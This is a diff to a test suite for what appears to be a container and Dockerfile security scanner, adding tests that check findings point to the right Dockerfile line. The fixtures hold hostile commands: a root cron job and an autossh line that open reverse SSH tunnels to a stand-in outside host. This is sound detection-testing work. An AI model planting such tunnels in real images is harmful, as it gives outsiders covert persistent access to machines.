@@ -239,6 +239,39 @@ def test_a_launch_alone_is_judged(runner: Runner):
     assert {one["rule_id"].partition("/")[0] for one in ran.reports()[0]["findings"]} == {"egress"}
 
 
+def test_a_finding_in_the_image_points_to_the_dockerfiles_line(runner: Runner):
+    line = "* * * * * root /usr/bin/" + "ssh -fN -R 0.0.0.0:2222:127.0.0.1:22 u@203.0.113.9\n"
+    (runner.workspace / "Dockerfile").write_text(
+        f"FROM scratch\n\nCOPY readme.txt /srv/\nRUN echo '{line.strip()}' >/etc/cron.d/a\n"
+    )
+    made = f"RUN /bin/sh -c echo '{line.strip()}' >/etc/cron.d/a # buildkit"
+    steps = (
+        Step("COPY readme.txt /srv/ # buildkit", (Member("srv/readme.txt", b"x"),)),
+        Step(made, (Member("etc/cron.d/a", line.encode()),)),
+    )
+    (runner.workspace / "app.tar").write_bytes(archive(steps, {}, "team/app:1"))
+
+    ran = runner.run(input="app.tar", dockerfile="Dockerfile")
+
+    [found] = [one for one in ran.commands if one.name == "error"]
+    assert (found.properties["file"], found.properties["line"]) == ("Dockerfile", "4")
+    assert "Where: etc/cron.d/a, line 1" in found.data
+    [result] = results(ran.sarif()[0])
+    place = result["locations"][0]["physicalLocation"]
+    assert (place["artifactLocation"]["uri"], place["region"]["startLine"]) == ("Dockerfile", 4)
+
+
+def test_the_repository_is_checked_without_an_image(runner: Runner):
+    (runner.workspace / "Dockerfile").write_text(
+        "FROM scratch\nRUN " + "autossh -M 0 -fN -R 2222:127.0.0.1:22 u@203.0.113.9\n"
+    )
+    ran = runner.run(paths="Dockerfile")
+
+    assert ran.answers["exit-code"] == "1"
+    [found, *_] = [one for one in ran.commands if one.name == "error"]
+    assert (found.properties["file"], found.properties["line"]) == ("Dockerfile", "2")
+
+
 def test_the_configuration_is_followed_and_another_can_be_named(runner: Runner):
     (runner.workspace / ".sandscan.yaml").write_text("fail-on: never\n")
     (runner.workspace / "strict.yaml").write_text("fail-on: low\n")
